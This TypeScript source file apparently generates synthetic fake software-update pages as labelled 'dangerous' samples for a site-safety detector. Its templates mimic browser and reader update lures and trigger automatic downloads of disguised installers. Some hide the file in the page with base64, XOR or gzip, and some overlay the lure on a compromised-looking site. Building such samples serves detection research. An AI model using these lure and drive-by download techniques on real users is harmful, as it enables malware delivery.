import type { Family } from '../family.ts'
import { type Brand, brand } from '../make/brands.ts'
import type { Chance } from '../make/chance.ts'
import type { Made } from '../make/envelope.ts'
import { lureUrl, lureWay } from '../make/hosts/by-purpose.ts'
import { companyOf, honestHost } from '../make/hosts/hosts.ts'
import { guardCode } from '../make/kits/drops.ts'
import { documentOf, escaped, filler, STATIC } from '../make/pages/layout.ts'
import { shellOf } from '../make/pages/shells.ts'
import { type Program, programOf } from '../make/programs.ts'
import { BROWSER, PRODUCTS, type Pretext, READER } from './pretexts.ts'

/** The kinds of file that are handed out; the APK is for telephones. */
const KINDS: readonly (readonly [Program, string])[] = [
  ['pe', 'exe'],
  ['pe', 'exe'],
  ['msi', 'msi'],
  ['zip', 'zip'],
  ['iso', 'iso'],
  ['apk', 'apk'],
]

/** A script that hands out a file which the page itself carries; `name` is the file's. */
function carried(name: string, kind: Program, onClick: (code: string) => string, chance: Chance): string {
  const bytes = Buffer.concat([
    programOf(kind, chance),
    Buffer.from(chance.base64(6000 + chance.below(40_000)), 'base64'),
  ])
  const text = bytes.toString('base64')
  const give = chance.of([
    `const l=document.createElement("a");l.download="${name}";l.href=URL.createObjectURL(blob);document.body.append(l);l.click();l.remove();`,
    `var u=(window.URL||window.webkitURL).createObjectURL(blob),t=document.createElement("a");t.setAttribute("href",u);t.setAttribute("download","${name}");t.click();setTimeout(function(){URL.revokeObjectURL(u)},4000);`,
    `if(navigator.msSaveOrOpenBlob){navigator.msSaveOrOpenBlob(blob,"${name}")}else{var z=document.querySelector("#dl");z.href=URL.createObjectURL(blob);z.download="${name}";z.dispatchEvent(new MouseEvent("click"))}`,
  ])
  const anchor = give.includes('#dl') ? '<a id="dl" hidden></a>' : ''
  const id = chance.letters(5)
  return chance.of([
    () =>
      `${anchor}<script>const body_="${text}";${onClick(`fetch("data:application/octet-stream;base64,"+body_).then(function(r){return r.blob()}).then(function(blob){${give}})`)}</script>`,
    () =>
      `${anchor}<script type="text/plain" id="${id}">${text.replace(/.{76}/g, '$&\n')}</script><script>${onClick(`var s=atob(document.getElementById("${id}").textContent.replace(/\\s/g,""));var a=[];for(var i=0;i<s.length;i++)a.push(s.charCodeAt(i));var blob=new Blob([new Uint8Array(a)],{type:"application/octet-stream"});${give}`)}</script>`,
    () => {
      const key = chance.letters(7)
      const mixed = Buffer.from(bytes.map((byte, at) => byte ^ key.charCodeAt(at % key.length)))
      return `${anchor}<script>(function(){var k="${key}",d="${mixed.toString('base64')}";function un(){var r=atob(d),o=new Uint8Array(r.length);for(var i=0;i<r.length;i++)o[i]=r.charCodeAt(i)^k.charCodeAt(i%k.length);return o}${onClick(`var blob=new Blob([un().buffer],{type:"octet/stream"});${give}`)}})()</script>`
    },
    () =>
      `${anchor}<script type="module">const gz="${Bun.gzipSync(bytes).toBase64()}";${onClick(`(async()=>{const s=new Blob([Uint8Array.from(atob(gz),c=>c.codePointAt(0))]).stream().pipeThrough(new DecompressionStream("gzip"));const blob=await new Response(s).blob();${give}})()`)}</script>`,
    () =>
      `${anchor}<script>var parts={${(text.match(/.{1,1500}/g) ?? []).map((part, at) => `p${at}:"${part}"`).join(',')}};${onClick(`var blob=new File([Uint8Array.from(atob(Object.values(parts).join("")),function(c){return c.charCodeAt(0)})],"${name}");${give}`)}</script>`,
  ])()
}

/** A script that fetches the file from where it lies. */
function fetched(name: string, onClick: (code: string) => string, chance: Chance): string {
  const from = chance.of([
    `https://${chance.name(3)}.${chance.of(['com', 'top', 'cloud'])}/dl/${name}`,
    `https://raw.githubusercontent.com/${chance.name(2)}/${chance.name(2)}/main/${name}`,
    `https://bitbucket.org/${chance.name(3)}/${chance.name(2)}/downloads/${name}`,
    `https://www.dropbox.com/scl/fi/${chance.letters(20)}/${name}?dl=1`,
    `./${name}`,
    `files/${chance.hex(6)}/${name}`,
  ])
  return chance.of([
    `<script>${onClick(`window.location.assign("${from}")`)}</script>`,
    `<script>${onClick(`var f=document.createElement("iframe");f.style.cssText="width:0;height:0;border:0";f.src="${from}";document.body.appendChild(f)`)}</script>`,
    `<script>${onClick(`var a=document.createElement("a");a.href="${from}";a.download="${name}";a.click()`)}</script>`,
    `<script>${onClick(`fetch("${from}").then(r=>r.blob()).then(b=>{const a=Object.assign(document.createElement("a"),{href:URL.createObjectURL(b),download:"${name}"});a.click()})`)}</script>`,
    `<form id="dlf" action="${from}" method="get"></form><script>${onClick('document.getElementById("dlf").submit()')}</script>`,
    `<meta http-equiv="refresh" content="${1 + chance.below(5)};URL='${from}'"><a href="${from}">${name}</a>`,
  ])
}

/** The download starts with the page, after a while, or at the button. */
const starter = (chance: Chance) =>
  chance.of([
    (code: string) =>
      `document.getElementById("up").addEventListener("click",function(e){e.preventDefault();${code}})`,
    (code: string) =>
      `window.addEventListener("load",function(){setTimeout(function(){${code}},${300 + chance.below(6000)})})`,
    (code: string) => `function start(){${code}}\ndocument.querySelector("#up").onclick = start;\nstart();`,
    (code: string) => `var left=5,iv=setInterval(function(){if(--left==0){clearInterval(iv);${code}}},1000)`,
  ])

interface Fake {
  readonly known: Brand | null
  readonly name: string
  readonly pretext: Pretext
}

/** Programs in whose maker's name the page's host says nothing. */
const UNLISTED: readonly (readonly [string, readonly Pretext[]])[] = [
  ['Firefox', BROWSER],
  ['Opera', BROWSER],
  ['Video Player', READER],
  ['Secure Viewer', READER],
]

function fakeOf(chance: Chance): Fake {
  if (chance.maybe(0.15)) {
    const [name, pretexts] = chance.of(UNLISTED)
    return { known: null, name, pretext: chance.of(pretexts) }
  }
  const [id, names, pretexts] = chance.of(PRODUCTS)
  return { known: brand(id), name: chance.of(names), pretext: chance.of(pretexts) }
}

/** The notice that a visitor sees: logo, pretext and button. */
function noticeOf({ name, pretext }: Fake, chance: Chance) {
  const version = `${100 + chance.below(60)}.0.${chance.digits(4)}.${chance.digits(2)}`
  const tell = (text: string) => escaped(text.replaceAll('@', name).replaceAll('#', version))
  const logo = `<img src="${chance.of(['logo.svg', 'img/icon.png', 'assets/i.webp', `data:image/png;base64,${chance.base64(90)}`])}" alt="${!pretext.title.includes('@') || chance.maybe(0.7) ? escaped(name) : ''}" width="64">`
  const heading = tell(pretext.title)
  const bar = chance.of([
    '',
    '<div class="bar"><span style="width:3%"></span></div>',
    '<ol><li>1</li><li>2</li><li>3</li></ol>',
  ])
  return {
    title: pretext.title.replaceAll('@', name),
    logo,
    main: `<h1>${heading}</h1><p>${tell(pretext.text)}</p>${bar}<a id="up" class="cta" href="#">${tell(pretext.go)}</a>`,
    bottom: chance.of([
      '',
      `© ${chance.of([2025, 2026])} ${escaped(name)}`,
      `${escaped(name)} ${version} · 64-bit`,
    ]),
  }
}

/** The notice lies over the page of an honest site that was broken into. */
function overlaid(fake: Fake, script: string, chance: Chance): Made {
  const host = honestHost(chance)
  const { logo, main } = noticeOf(fake, chance)
  const body = documentOf(
    {
      language: 'en',
      title: companyOf(host),
      heading: companyOf(host),
      main: filler('en', 3 + chance.below(4), chance),
      footer: `© ${companyOf(host)}`,
      scripts: `<div style="position:fixed;inset:0;background:#fff;z-index:2147483647;text-align:center">${logo}${main}</div>${script}`,
      skeletons: STATIC,
    },
    chance,
  )
  return { url: `https://${host}/${chance.of(['', 'blog/', 'shop'])}`, body, isHonest: false }
}

export const updateDropper: Family = {
  id: 'update_dropper',
  expected: 'dangerous',
  split: 'dev',
  make(chance) {
    const fake = fakeOf(chance)
    const [kind, extension] = chance.of(
      /Windows|PC|Edge|Adobe/.test(fake.name + fake.pretext.title + fake.pretext.go)
        ? KINDS.slice(0, -1)
        : KINDS,
    )
    const base = chance.of([
      fake.name.replaceAll(' ', ''),
      'Setup',
      'Update',
      'Installer_x64',
      `${fake.name.split(' ').at(-1)}Setup`,
    ])
    const name = `${base}${chance.of(['', `_${chance.digits(3)}`, `.${chance.below(9)}.${chance.below(30)}`])}.${extension}`
    const onClick = starter(chance)
    const script =
      (fake.known === null || chance.maybe(0.5)
        ? carried(name, kind, onClick, chance)
        : fetched(name, onClick, chance)) + guardCode(chance)
    if (chance.maybe(0.18)) return overlaid(fake, script, chance)
    const { title, logo, main, bottom } = noticeOf(fake, chance)
    const body = shellOf(
      { language: fake.pretext.language, title, top: logo, main, bottom, scripts: script },
      chance,
    )
    const url = lureUrl(fake.known, 'update', chance)
    return { url, body, way: lureWay(url, chance), isHonest: false }
  },
}
